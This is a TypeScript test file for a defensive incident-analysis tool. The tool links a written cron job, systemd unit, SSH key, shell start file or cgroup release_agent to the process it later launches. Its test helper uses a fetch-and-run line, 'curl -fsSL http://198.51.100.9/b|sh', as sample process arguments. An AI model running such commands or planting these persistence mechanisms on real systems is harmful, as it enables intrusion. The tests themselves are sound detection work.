/** Holds when a job, unit, start file or key that one session left explains another. */
import assert from "node:assert/strict";
import { test } from "node:test";
import {
  sampleInput,
  sampleProcess,
  sampleSignal,
  sampleStep,
  webContainer,
} from "../../../testing/sample-incident.ts";
import type { ProcessFact, SignalFact, StepFact } from "../../observe/detect/detect-fact.ts";
import { commandKey, createCommandBook } from "./command-book.ts";
import { countUntil } from "./count-until.ts";
import { createGround, explainByName, explainByPlace } from "./explain-plant.ts";
import { findPlantLinks } from "./find-plant-links.ts";
import { gatherPlants } from "./gather-plants.ts";
import { hostPathsOf } from "./host-path.ts";
import type { IncidentInput } from "./incident-input.ts";
import { fitsAccount, fitsUnit, startsUnit } from "./plant-marks.ts";
import { readRun } from "./read-run.ts";
import { gatherSessions } from "./session.ts";
import { placesOf } from "./written-places.ts";

const host = "host:node-1";
const onHost = { container: host, workload: undefined, uid: 0 } as const;
const at = (name: string, second: number) => ({ process: name, entry: name, second });

type Facts = Pick<IncidentInput, "signals" | "processes" | "steps">;

/** Who starts things: facts hold them as ancestors of sessions. */
const givers: readonly ProcessFact[] = [
  giver("systemd", 1, "/usr/lib/systemd/systemd"),
  giver("cron", 510, "/usr/sbin/cron"),
  giver("sshd", 600, "/usr/sbin/sshd"),
  giver("kthreadd", 2, "kthreadd"),
];

function giver(process: string, pid: number, binary: string): ProcessFact {
  const times = { startUs: 1, exitUs: 0 };
  const place = { process, entry: "", second: -9000 };
  return sampleProcess(place, { parent: "", pid, binary, ...onHost, ...times });
}

/** A service writes a file; `given` says where and how else. */
function writer(subject: string, second = 0, given: Partial<SignalFact> = {}): Facts {
  const signal = sampleSignal(at(`w${second}`, second), { ...onHost, ...given });
  const { container } = signal;
  const step = sampleStep(at(`w${second}`, second), { what: "write", subject, container });
  return { signals: [signal], processes: [], steps: [step] };
}

interface Started {
  readonly by: string;
  readonly kind: SignalFact["entryKind"];
  readonly second: number;
  readonly root?: Partial<ProcessFact>;
  readonly name?: string;
}

function started({ by, kind, second, root = {}, name = `b${second}` }: Started): Facts {
  const place = at(name, second);
  const line = '-c "curl -fsSL http://198.51.100.9/b|sh"';
  const process = sampleProcess(place, { arguments: line, ...onHost, parent: by, ...root });
  const { container } = process;
  const signal = sampleSignal(place, { ...onHost, host: by, entryKind: kind, container });
  return { signals: [signal], processes: [process], steps: [] };
}

const byCron = (second: number, root: Partial<ProcessFact> = {}) =>
  started({ by: "cron", kind: "scheduled", second, root });

function linksOf(...facts: readonly Facts[]): readonly string[] {
  const input = sampleInput({
    signals: facts.flatMap(({ signals }) => signals),
    processes: [...givers, ...facts.flatMap(({ processes }) => processes)],
    steps: facts.flatMap(({ steps }) => steps),
  });
  const book = gatherSessions(input);
  const scene = { ...book, sessionOf: () => undefined, listenersAt: input.listenersAt };
  return findPlantLinks(scene).map(({ from, to, why }) => `${from}-${to}: ${why}`);
}

test("what cron first runs after a service wrote a job is that service's doing", () => {
  const found = linksOf(writer("/var/spool/cron/root"), byCron(60));
  assert.deepEqual(found, [
    "w0-b60: it left “/var/spool/cron/root” (cron job), " +
      "and the other is the first new thing that cron then ran",
  ]);
});

test("a job that ran before the file was written is another's", () => {
  assert.deepEqual(linksOf(byCron(-60), writer("/etc/cron.d/x"), byCron(60)), []);
});

test("a job of another account, of another machine or long after is another's", () => {
  assert.deepEqual(linksOf(writer("/var/spool/cron/root"), byCron(60, { uid: 1000 })), []);
  assert.deepEqual(linksOf(writer("/var/spool/cron/crontabs/alice"), byCron(60)), []);
  const elsewhere = { container: "host:node-2", node: "node-2" };
  assert.deepEqual(linksOf(writer("/etc/cron.d/x"), byCron(60, elsewhere)), []);
  assert.deepEqual(linksOf(writer("/etc/cron.d/x"), byCron(2 * 3600)), []);
  assert.deepEqual(linksOf(writer("/etc/cron.d/x", 100), byCron(60)), [], "before it");
});

test("what follows a file that is no job, or was started by another, is free", () => {
  assert.deepEqual(linksOf(writer("/var/lib/app/data"), byCron(60)), []);
  const login = started({ by: "sshd", kind: "login", second: 60 });
  assert.deepEqual(linksOf(writer("/etc/cron.d/x"), login), []);
  const operator = started({ by: "systemd", kind: "operator", second: 60 });
  assert.deepEqual(linksOf(writer("/etc/systemd/system/netd.service"), operator), []);
});

test("what a server wrote before a rule spoke of it is its daily work", () => {
  const facts = writer("/etc/cron.d/x", 40, { entryKind: "startup" });
  assert.equal(linksOf(facts, byCron(60)).length, 1);
  const steps = facts.steps.map((step) => ({ ...step, firstSeenUs: 1, lastSeenUs: 1 }));
  assert.deepEqual(linksOf({ ...facts, steps }, byCron(60)), []);
  const shortly = facts.steps.map((step) => {
    const timeUs = step.firstSeenUs - 30_000_000;
    return { ...step, firstSeenUs: timeUs, lastSeenUs: timeUs };
  });
  assert.deepEqual(linksOf({ ...facts, steps: shortly }, byCron(60)), []);
});

test("hours later a job must name what its writer named", () => {
  const facts = writer("/etc/cron.d/x");
  const talk = sampleStep(at("w0", 0), { what: "accept", subject: "198.51.100.9:41000" });
  const step = { ...talk, container: host };
  const found = linksOf({ ...facts, steps: [...facts.steps, step] }, byCron(20 * 3600));
  assert.match(found.join(), /^w0-b72000: .* what cron then ran names “198.51.100.9” as it$/);
  const nextDay = linksOf({ ...facts, steps: [...facts.steps, step] }, byCron(30 * 3600));
  assert.deepEqual(nextDay, [], "too long after");
  const other = { ...step, subject: "198.51.100.10:41000" };
  assert.deepEqual(linksOf({ ...facts, steps: [...facts.steps, other] }, byCron(20 * 3600)), []);
  const nameServer = { ...step, subject: "198.51.100.9:53" };
  assert.deepEqual(
    linksOf({ ...facts, steps: [...facts.steps, nameServer] }, byCron(20 * 3600)),
    [],
    "name servers are everybody's",
  );
});

test("of several writers the one that names the same counts, then the latest", () => {
  const late = linksOf(writer("/etc/cron.d/x"), writer("/etc/cron.d/y", 30), byCron(60));
  assert.match(late.join(), /^w30-b60: /);
  const first = writer("/etc/cron.d/x");
  const talk = sampleStep(at("w0", 0), { subject: "198.51.100.9:80" });
  const step = { ...talk, container: host };
  const named = { ...first, steps: [...first.steps, step] };
  assert.match(linksOf(named, writer("/etc/cron.d/y", 30), byCron(60)).join(), /^w0-b60: /);
});

test("a planted job that runs each hour for days goes on with its first run", () => {
  const runs = [1, 2, 3, 30].map((hour) => byCron(hour * 3600));
  const found = linksOf(writer("/etc/cron.d/x"), ...runs).map((one) => one.slice(0, 16));
  assert.equal(found.length, 3, "the last comes after more than a day without");
  assert.match(found.join(), /^w0-b3600: .*,b3600-b7200: .*,b7200-b10800/);
});

test("a container's mount of the machine leads to the machine's cron, its own files do not", () => {
  const inside = { container: webContainer };
  for (const path of ["/mnt/root/etc/cron.d/x", "/host/etc/cron.d/x", "/proc/1/root/etc/cron.d/x"])
    assert.equal(linksOf(writer(path, 0, inside), byCron(60)).length, 1, path);
  assert.deepEqual(linksOf(writer("/etc/cron.d/x", 0, inside), byCron(60)), []);
  const escaped = { ...inside, family: "escape" } as const;
  assert.equal(linksOf(writer("/etc/cron.d/x", 0, escaped), byCron(60)).length, 1, "it was out");
  const facts = writer("/etc/cron.d/x", 0, escaped);
  const beside = facts.steps.map((step) => ({ ...step, process: "other" }));
  const free = linksOf({ ...facts, steps: beside }, byCron(60));
  assert.deepEqual(free, [], "a process that no rule saw leave");
  const own = linksOf(writer("/etc/cron.d/x", 0, inside), byCron(60, inside));
  assert.equal(own.length, 1, "a cron within the container");
});

test("a unit explains what init starts by its name, or at once when it is told to", () => {
  const unit = writer("/etc/systemd/system/netd.service");
  const byInit = (second: number, root: Partial<ProcessFact> = {}) =>
    started({ by: "systemd", kind: "startup", second, root });
  assert.match(
    linksOf(unit, byInit(7000, { binary: "/usr/local/bin/.netd" })).join(),
    /named as what the service manager then started$/,
  );
  assert.deepEqual(linksOf(unit, byInit(5)), [], "nobody told it to start");
  const line = { binary: "/usr/bin/systemctl", arguments: "enable --now netd", ...onHost };
  const told = { ...unit, processes: [sampleProcess({ ...at("w0", 3), process: "ctl" }, line)] };
  assert.equal(linksOf(told, byInit(5)).length, 1);
  assert.deepEqual(linksOf(told, byInit(300)), [], "not at once");
});

test("a key explains the first login of its account, and none of an account in use", () => {
  const key = writer("/root/.ssh/authorized_keys");
  const login = (second: number, root: Partial<ProcessFact> = {}) =>
    started({ by: "sshd", kind: "login", second, root: { auid: 0, ...root } });
  assert.match(linksOf(key, login(600)).join(), /^w0-b600: .* then logged in to that account$/);
  assert.deepEqual(linksOf(key, login(600, { auid: 1000, uid: 1000 })), []);
  assert.deepEqual(linksOf(login(-600), key, login(600)), []);
  const home = writer("/home/alice/.ssh/authorized_keys");
  const alice = { auid: 1000, uid: 1000, cwd: "/home/alice" };
  assert.equal(linksOf(home, login(600, alice)).length, 1);
  assert.deepEqual(linksOf(home, login(600, { ...alice, cwd: "/home/bob" })), []);
});

test("a start file explains what a login's shell does at once", () => {
  const file = writer("/etc/profile.d/x.sh");
  const login = started({ by: "sshd", kind: "login", second: 600 });
  assert.equal(linksOf(file, login).length, 1);
  const [signal] = login.signals;
  assert.ok(signal !== undefined);
  const late = { ...signal, firstSeenUs: signal.firstSeenUs + 90_000_000 };
  assert.deepEqual(linksOf(file, { ...login, signals: [late] }), [], "somebody typed it");
});

test("a setting of the kernel explains what the kernel starts on that machine", () => {
  const inside = { container: webContainer };
  const setting = writer("/tmp/cgrp/release_agent", 0, inside);
  const byKernel = (second: number) => started({ by: "kthreadd", kind: "unknown", second });
  assert.equal(linksOf(setting, byKernel(5)).length, 1);
  assert.deepEqual(linksOf(setting, byKernel(3000)), []);
});

test("paths of a mount are looked through, those of every image are not", () => {
  assert.deepEqual(hostPathsOf("/mnt/root/etc/x"), ["/root/etc/x", "/etc/x"]);
  assert.deepEqual(hostPathsOf("/proc/1/root/tmp/x"), ["/tmp/x"]);
  for (const path of ["/var/tmp/x", "/usr/lib/x", "/home/a/etc/x", "/data/x", "", "x"]) {
    assert.deepEqual(hostPathsOf(path), [], path);
  }
});

test("plants are kept by place and starter, and tell why", () => {
  const facts = writer("/etc/cron.d/x");
  const { signals, processes } = byCron(60);
  const input = sampleInput({
    signals: [...facts.signals, ...signals],
    processes: [...givers, ...processes],
    steps: facts.steps,
  });
  const book = gatherSessions(input);
  const scene = { ...book, sessionOf: () => undefined, listenersAt: input.listenersAt };
  const plants = gatherPlants(scene);
  assert.deepEqual([...plants.keys()], [`${host}\u0000cron`]);
  const [plant] = [...plants.values()].flat();
  const last = book.sessions.at(-1);
  assert.ok(plant !== undefined && last !== undefined);
  const run = readRun(last, book.processes);
  assert.ok(run !== undefined);
  assert.equal(explainByName(plant, run, createGround(scene)), "");
  assert.match(explainByPlace(plant, run, createGround(scene)), /first new thing that cron/);
});

test("a time is found in a sorted list", () => {
  const list = [1, 3, 3, 7].map((startUs) => ({ startUs }));
  assert.deepEqual(
    [0, 1, 3, 6, 9].map((timeUs) => countUntil(list, timeUs)),
    [0, 1, 3, 3, 4],
  );
});

test("the parts of a cause answer alone", () => {
  const root = sampleProcess(at("b", 1), { binary: "/opt/netd", arguments: "/etc/acme/netd.yaml" });
  assert.equal(fitsUnit("/etc/systemd/system/netd@.service", root), true);
  assert.equal(fitsUnit("/etc/systemd/system/other.service", root), false);
  assert.equal(fitsUnit("/etc/systemd/system/d.service", { ...root, binary: "/opt/d" }), false);
  const line = { binary: "/usr/sbin/service", arguments: "netd start" };
  assert.equal(startsUnit({ ...root, ...line }, "/etc/init.d/netd"), true);
  assert.equal(startsUnit({ ...root, ...line }, "/etc/init.d/other"), false);
  const { sessions, processes } = gatherSessions(byCron(1));
  const [session] = sessions;
  assert.ok(session !== undefined);
  const run = readRun(session, processes);
  assert.deepEqual(run?.runners, ["cron"]);
  assert.equal(run !== undefined && fitsAccount("/etc/cron.d/x", run), true);
  assert.equal(readRun({ ...session, entry: "unseen" }, processes), undefined);
  const book = createCommandBook([root, { ...root, process: "c", startUs: root.startUs + 5 }]);
  assert.equal(book.isNew(root, root.startUs), true);
  assert.equal(book.isNew(root, root.startUs + 1), false);
  assert.notEqual(commandKey(root), commandKey({ ...root, container: host }));
  const step: StepFact = sampleStep(at("b", 1), { what: "write", subject: "/mnt/etc/x" });
  assert.deepEqual(placesOf({ ...session, container: webContainer }, step, processes), [
    { place: webContainer, path: "/mnt/etc/x" },
    { place: "node-1", path: "/etc/x" },
  ]);
});
